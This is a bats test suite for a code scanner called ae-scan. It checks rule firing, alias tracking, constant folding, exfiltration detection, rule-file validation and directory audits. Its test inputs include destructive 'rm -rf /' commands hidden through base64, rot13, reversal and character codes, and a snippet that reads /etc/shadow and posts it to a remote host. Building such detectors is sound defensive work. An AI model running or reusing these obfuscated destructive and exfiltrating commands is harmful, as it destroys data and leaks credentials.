#!/usr/bin/env bats
bats_require_minimum_version 1.5.0
load lib/common

# scan LANGUAGE CODE [JQ] [OPTION ...]: the scanned document in $output.
scan() {
	local d
	d=$(doc "$1" "$2" "${3:-.}")
	shift $(($# < 3 ? $# : 3))
	run --separate-stderr ae-scan "$@" <<<"$d"
}

# file NAME TEXT: a file to be audited.
file() {
	mkdir -p "$(dirname "$BATS_TEST_TMPDIR/$1")"
	printf '%s' "$2" >"$BATS_TEST_TMPDIR/$1"
}

audit() {
	run --separate-stderr ae-scan "$@"
}

@test "every rule fires where its example says, and not where it must not" {
	run --separate-stderr command ae-scan --check-rules
	assert_status 0
	[[ $output == *" rules, "*" examples, 0 wrong" ]]
}

@test "a harmless program is of low risk and needs nothing" {
	scan python 'print(sum(range(10)))'
	assert_status 0
	assert_json '.scan.risk == "low" and .scan.complete'
	assert_json '.scan.capabilities == {} and .scan.findings == []'
}

@test "a finding has its rule, place, match and meaning" {
	scan python $'import os\n\nx = os.system("ls")\n'
	assert_status 0
	assert_json '.scan.risk == "medium"'
	assert_json '.scan.findings[0] | .rule == "py.run.shell" and .line == 3
		and .column == 5 and .end_line == 3 and .end_column == 20
		and .match == "os.system(\"ls\")" and .in == "code"
		and .cwe == "CWE-78" and .suppressed == false
		and (.fingerprint | length) == 16 and .advice != null'
}

@test "columns count code points" {
	scan python $'x = "äöü"; eval(y)\n'
	assert_json '.scan.findings[0].column == 12'
}

@test "high risk is a bad verdict unless --fail-on says otherwise" {
	scan python 'exec(input())'
	assert_status 1
	scan python 'exec(input())' . --fail-on never
	assert_status 0
	scan python 'import os; os.system("ls")' . --fail-on medium
	assert_status 1
	scan python '1' . --fail-on low
	assert_status 1
	scan python '1' . --fail-on hgih
	assert_status 2
	[[ $stderr == *'not "hgih"'* ]]
}

@test "a name is followed through aliases, attributes and values" {
	local code
	for code in \
		'from os import system as s; s("ls")' \
		'import os as o; f = o.system; f("ls")' \
		'getattr(__import__("o" + "s"), "metsys"[::-1])("ls")' \
		'import os; list(map(os.system, ["ls"]))' \
		'import os
class A:
    run = os.system
A().run("ls")' \
		'import importlib; importlib.import_module("os").popen("ls")' \
		'import os; vars(os)["system"]("ls")' \
		'globals()["__builtins__"].__import__("os").system("ls")' \
		'import functools, os; functools.partial(os.system, "ls")()' \
		'import threading, os; threading.Thread(target=os.system, args=("ls",))' \
		'import os; (lambda f: f("ls"))(os.system)' \
		'ｉｍｐｏｒｔ = 1; import os; os.ｓystem("ls")'; do
		scan python "$code"
		assert_json '[.scan.findings[].rule] | index("py.run.shell")'
	done
}

@test "look-alikes in comments, strings and names do not count" {
	scan python $'# os.system("rm -rf /")\nx = "eval(input())"\nmodel.eval()\nimport re; re.compile("x")\ndef system(x): return x\nsystem("ls")\n'
	assert_status 0
	assert_json '.scan.risk == "low"'
}

@test "constants are folded, so that a hidden command is seen" {
	local code
	for code in \
		'import os; os.system("rm -" + "rf /")' \
		'import os; os.system("/ fr- mr"[::-1])' \
		'import os; os.system("".join(map(chr, [114,109,32,45,114,102,32,47])))' \
		'import os; os.system("%s -rf %s" % ("rm", "/"))' \
		'import os; c = "rm"; os.system(f"{c} -rf /")' \
		'import os; os.system("{} -rf /".format("rm"))' \
		'import os, base64; os.system(base64.b64decode("cm0gLXJmIC8=").decode())' \
		'import os, codecs; os.system(codecs.decode("ez -es /", "rot13"))' \
		'import subprocess; subprocess.run(["rm", "-rf", "/"])' \
		'import os
s = ""
for c in [114, 109, 32, 45, 114, 102, 32, 47]:
    s += chr(c)
os.system(s)'; do
		scan python "$code"
		assert_status 1
		assert_json '[.scan.findings[].rule]
			| index("path.delete-tree.root")'
	done
}

@test "a program in a program is scanned as what it is, at its own place" {
	scan python $'import os\nos.system("echo a; rm -rf /")\n'
	assert_status 1
	assert_json '.scan.findings[] | select(.rule == "path.delete-tree.root")
		| .line == 2 and .column == 20 and
		(.nested | length) == 1 and .nested[0].language == "bash"'
	scan bash $'python3 -c "import os; os.system(\'rm -rf /\')"\n'
	assert_status 1
	assert_json '.scan.findings[] | select(.rule == "path.delete-tree.root")
		| [.nested[].language] == ["python", "bash"]'
}

@test "code that is made at run time may do nothing dangerous" {
	scan python 'exec("import os; os.system(\"ls\")")'
	assert_status 1
	assert_json '[.scan.findings[].rule] | index("code.hidden")'
}

@test "what is read and then sent out is exfiltration" {
	scan python $'import requests\nd = open("/etc/shadow").read()\nrequests.post("https://h.example/x", data=d)\n'
	assert_status 1
	assert_json '[.scan.findings[].rule] | index("py.net.exfiltration")'
	assert_json '.scan.capabilities == {"net": ["h.example:443"],
		"read": ["/etc/shadow"]}'
}

@test "capabilities name what is needed, and no more" {
	scan python $'import os, subprocess\nos.environ["HOME"]; os.getenv("LANG")\nsubprocess.run(["git", "status"])\nopen("/srv/a.txt").read()\nopen("b.txt", "w")\nopen("/tmp/c", "w")\n'
	assert_json '.scan.capabilities == {"run": ["git"],
		"read": ["/srv/a.txt"], "env": ["HOME", "LANG"]}'
	assert_json '.scan.needs[] | select(.value == "git")
		| .risk == "medium" and .at == [{"in": "code", "line": 3, "column": 1}]'
}

@test "a computed command or host is everything" {
	scan python $'import subprocess, requests\nsubprocess.run(x)\nrequests.get(y)\n'
	assert_json '.scan.capabilities == {"run": "*", "net": "*"}'
}

@test "tests, files that are programs and their places are scanned" {
	scan python 'x = 1' '.tests = "eval(input())"
		| .files = [{path: "a.sh", content: "rm -rf /\n"},
			{path: "notes.txt", content: "rm -rf /\n"}]'
	assert_status 1
	assert_json '[.scan.findings[].in] | unique == ["files/a.sh", "tests"]'
}

@test "a document's arguments, environment and input are known" {
	scan python 'import sys; exec(sys.argv[1])' \
		'.args = ["__import__(\"os\").system(\"rm -rf /\")"]'
	assert_json '[.scan.findings[].rule] | index("path.delete-tree.root")'
	scan python 'import os; os.system(os.environ["X"])' '.env = {X: "rm -rf /"}'
	assert_json '[.scan.findings[].rule] | index("path.delete-tree.root")'
}

@test "variables of the loader and files in place of modules are medium" {
	scan python 'x = 1' '.env = {LD_PRELOAD: "x.so"}'
	assert_json '.scan.risk == "medium" and
		(.scan.findings[0] | .rule == "env.loader" and .in == "env/LD_PRELOAD")'
	scan python 'import json' '.files = [{path: "json.py", content: "x = 1\n"}]'
	assert_json '.scan.findings[0] | .rule == "file.shadows" and
		.in == "files/json.py"'
	scan python 'x = 1' '.files = [{path: "data.py", content: "x = 1\n"}]'
	assert_json '.scan.risk == "low"'
}

@test "broken syntax is still scanned" {
	scan python $'    """ the end of a text\n    x = (1\n\n    subprocess.call("ls " + y, shell=True)\n'
	assert_json '[.scan.findings[].rule] | index("py.run.subprocess-shell")'
	assert_json '.scan.findings[0] | .line == 4 and .column == 5'
}

@test "what is given up is a finding" {
	scan python "x = $(printf '(%.0s' {1..2000})1$(printf ')%.0s' {1..2000})"
	assert_json '.scan.complete == false and .scan.risk == "medium"'
	assert_json '.scan.findings[] | select(.rule == "analysis-incomplete")
		| .message | test("too deep")'
}

@test "a document without code, of another type or in no known language fails" {
	run --separate-stderr ae-scan <<<'{"language": "python"}'
	assert_status 2
	assert_json '.error | .stage == "scan" and .code == "no_code"'
	run --separate-stderr ae-scan <<<'{"language": "cobol", "code": "x"}'
	assert_status 2
	assert_json '.error.code == "language"'
	run --separate-stderr ae-scan <<<'{"language": "python", "code": 1}'
	assert_status 2
	assert_json '.error.code == "bad_input"'
}

@test "an empty stream and a full disk are told" {
	run --separate-stderr command ae-scan </dev/null
	assert_status 2
	[[ $stderr == *'nothing to read'* ]]
	run --separate-stderr bash -c \
		'echo "{\"language\":\"bash\",\"code\":\"ls\"}" | command ae-scan >/dev/full'
	assert_status 2
	[[ $stderr == *'No space left'* ]]
}

@test "a stream keeps its order with several workers" {
	run --separate-stderr bash -c 'for i in $(seq 20); do
		jq -nc --argjson i "$i" "{id: (\$i|tostring), language: \"python\",
		code: (\"x = 1\\n\" * (\$i % 5 * 200 + 1))}"; done |
		command ae-scan -j 3 | jq -r .id | paste -sd" "'
	assert_status 0
	assert_output "$(seq -s' ' 20)"
}

@test "the digest changes with what is scanned and with nothing else" {
	local a b c
	scan python 'x = 1' && a=$(jq -r .scan.sha256 <<<"$output")
	scan python 'x = 1' '.task = "t"' && b=$(jq -r .scan.sha256 <<<"$output")
	scan python 'x = 1' '.args = ["a"]' && c=$(jq -r .scan.sha256 <<<"$output")
	[ "$a" = "$b" ] && [ "$a" != "$c" ]
}

@test "--rules adds rules, --disable takes some away" {
	cat >"$BATS_TEST_TMPDIR/r.yaml" <<-'E'
		rules:
		- {id: py.my.launch, call: [rocket.launch], severity: high, message: Launches}
	E
	chmod 600 "$BATS_TEST_TMPDIR/r.yaml"
	scan python 'import rocket as r; r.launch()' . \
		--rules "$BATS_TEST_TMPDIR/r.yaml"
	assert_status 1
	assert_json '.scan.findings[0].rule == "py.my.launch"'
	scan python 'eval("1")' . --disable 'py.code.*'
	assert_json '.scan.risk == "low"'
	scan python '1' . --disable nonsense
	assert_status 2
	[[ $stderr == *'no rule "nonsense"'* ]]
}

@test "rules may be patterns and queries, and lie in a directory" {
	mkdir -m 700 "$BATS_TEST_TMPDIR/d"
	cat >"$BATS_TEST_TMPDIR/d/r.yaml" <<-'E'
		rules:
		- {id: my.word, pattern: "sec[r]et", severity: medium, message: m}
		- {id: py.my.lambda, query: "(lambda) @x", severity: high, message: m}
		---
		examples:
		  my.word: {fires: "x = 'secret'", not: "x = 1"}
		  py.my.lambda: {fires: "f = lambda: 1", not: "f = 1"}
	E
	chmod 600 "$BATS_TEST_TMPDIR/d/r.yaml"
	scan python $'a = "secret"\nb = lambda x: x\n' . \
		--rules "$BATS_TEST_TMPDIR/d"
	assert_status 1
	assert_json '[.scan.findings[] | [.rule, .line, .match]] ==
		[["my.word", 1, "secret"], ["py.my.lambda", 2, "lambda x: x"]]'
	run --separate-stderr command ae-scan --check-rules \
		--rules "$BATS_TEST_TMPDIR/d"
	assert_status 0
}

@test "a rule file that is wrong is named with its line" {
	local bad
	for bad in 'id: a, call: [b], severity: hgih|severity must be' \
		'id: a, severity: low|what is it about' \
		'call: [b], severity: low|without an id' \
		'id: a, call: [b], severity: low, colour: red|colour' \
		'id: a, call: [b], severity: low, when: {0: {matches: "("}}|pattern' \
		'id: a, call: [b], severity: low, args: {0: shel}|unknown role' \
		'id: a, call: [b], severity: low, facts: [sned]|unknown fact' \
		'id: a, pattern: "(", severity: low|pattern' \
		'id: a, query: "(x)", severity: low|one language' \
		'id: py.a, query: "(x) @y", severity: low|no such node' \
		'id: py.a, query: "((call) @y (#eq? @y 1))", severity: low|predicates'; do
		printf 'rules:\n- {%s}\n' "${bad%%|*}" >"$BATS_TEST_TMPDIR/r.yaml"
		chmod 600 "$BATS_TEST_TMPDIR/r.yaml"
		scan python '1' . --rules "$BATS_TEST_TMPDIR/r.yaml"
		assert_status 2
		[[ $stderr == *"r.yaml:2"* && $stderr == *"${bad##*|}"* ]]
	done
	chmod 666 "$BATS_TEST_TMPDIR/r.yaml"
	scan python '1' . --rules "$BATS_TEST_TMPDIR/r.yaml"
	assert_status 2
}

@test "rules are listed and explained" {
	run --separate-stderr command ae-scan --list-rules
	assert_status 0
	[[ $output == *py.code.computed* && $output == *pair.exfiltration* ]]
	run --separate-stderr command ae-scan --explain py.run.shell
	assert_status 0
	[[ $output == *"severity: medium"* && $output == *fires:* ]]
	run --separate-stderr command ae-scan --explain none
	assert_status 2
}

@test "files and directories are audited, with a summary for people" {
	file p/a.py $'import os\nos.system("ls")\n'
	file p/b $'#!/bin/sh\nrm -rf /\n'
	file p/c.txt 'rm -rf /'
	audit "$BATS_TEST_TMPDIR/p"
	assert_status 1
	[ "${#lines[@]}" -eq 2 ]
	[[ $stderr == *'2 programs: 1 high, 1 medium, 0 low risk'* ]]
	audit --format text "$BATS_TEST_TMPDIR/p/a.py"
	assert_status 0
	[[ $output == *'a.py:2:1: medium: Runs a command in a shell [py.run.shell]'* ]]
}

@test "a binary in a directory is named, counted and skipped" {
	file p/a.py 'print(1)'
	printf '\177ELF\0\0' >"$BATS_TEST_TMPDIR/p/tool"
	audit "$BATS_TEST_TMPDIR/p"
	assert_status 0
	[ "${#lines[@]}" -eq 1 ]
	[[ $stderr == *'p/tool: binary, skipped'* ]]
	[[ $stderr == *'1 program: '*'; 1 binary file skipped'* ]]
}

@test "a directory of many files is audited in the memory of few" {
	local i
	mkdir "$BATS_TEST_TMPDIR/p"
	for ((i = 0; i < 60; i++)); do
		{
			head -c 1000000 /dev/zero | tr '\0' '#'
			echo
		} >"$BATS_TEST_TMPDIR/p/$i.py"
	done
	peak() {
		/usr/bin/time -q -f %M ae-scan "$@" 2>&1 >/dev/null | tail -n 1
	}
	(($(peak "$BATS_TEST_TMPDIR/p") < 2 * $(peak "$BATS_TEST_TMPDIR/p/"[0-4].py)))
}

@test "what git ignores is not audited, what it tracks is" {
	file p/a.py 'eval(x)'
	file p/out/b.py 'eval(x)'
	file p/.gitignore $'out/\n'
	git -C "$BATS_TEST_TMPDIR/p" init -q
	audit "$BATS_TEST_TMPDIR/p/"
	assert_json '.id | endswith("/p/a.py")'
	[ "${#lines[@]}" -eq 1 ]
	git -C "$BATS_TEST_TMPDIR/p" add -f out/b.py
	audit "$BATS_TEST_TMPDIR/p"
	[ "${#lines[@]}" -eq 2 ]
}

@test "nothing to audit is not a good verdict" {
	mkdir -p "$BATS_TEST_TMPDIR/empty"
	audit "$BATS_TEST_TMPDIR/empty"
	assert_status 2
	audit "$BATS_TEST_TMPDIR/none.py"
	assert_status 2
}

@test "a remark with a reason suppresses in a file, and never in a document" {
	file a.py $'eval(x)  # ae-scan: ignore py.code.* the text is ours\n'
	audit "$BATS_TEST_TMPDIR/a.py"
	assert_status 0
	assert_json '.scan.risk == "low" and all(.scan.findings[]; .suppressed)'
	scan python $'eval(x)  # ae-scan: ignore py.code.* the text is ours\n'
	assert_status 1
	file b.py $'eval(x)  # ae-scan: ignore py.code.*\n'
	audit "$BATS_TEST_TMPDIR/b.py"
	assert_status 1
}

@test "a baseline makes only new findings count, wherever the lines move" {
	file a.py $'exec(x)\n'
	command ae-scan "$BATS_TEST_TMPDIR/a.py" >"$BATS_TEST_TMPDIR/base" || true
	file a.py $'# a line more\nexec(x)\n'
	audit --baseline "$BATS_TEST_TMPDIR/base" "$BATS_TEST_TMPDIR/a.py"
	assert_status 0
	assert_json 'all(.scan.findings[]; .known)'
	file a.py $'exec(x)\nexec(y)\n'
	audit --baseline "$BATS_TEST_TMPDIR/base" "$BATS_TEST_TMPDIR/a.py"
	assert_status 1
	file bad 'no json'
	audit --baseline "$BATS_TEST_TMPDIR/bad" "$BATS_TEST_TMPDIR/a.py"
	assert_status 2
}

@test "hostile programs cost little time and no crash" {
	local code
	for code in '"(" * 100000' '"x = " + "[" * 50000' \
		'"a = \"a\" * 60000\n" + "a = a + a\n" * 60 + "exec(a)"' \
		'"x" + ".a()" * 50000' '"x = " + "-" * 100000 + "1"' \
		'"if a:\n x\n" + "elif a:\n x = 1\n" * 20000'; do
		jq -nc "{language: \"python\", code: ($code)}" \
			>"$BATS_TEST_TMPDIR/hostile"
		run --separate-stderr timeout 5 \
			"$AE_BUILD/bin/ae-scan" <"$BATS_TEST_TMPDIR/hostile"
		[ "$status" -le 1 ]
		assert_json '.scan | has("risk")'
	done
}
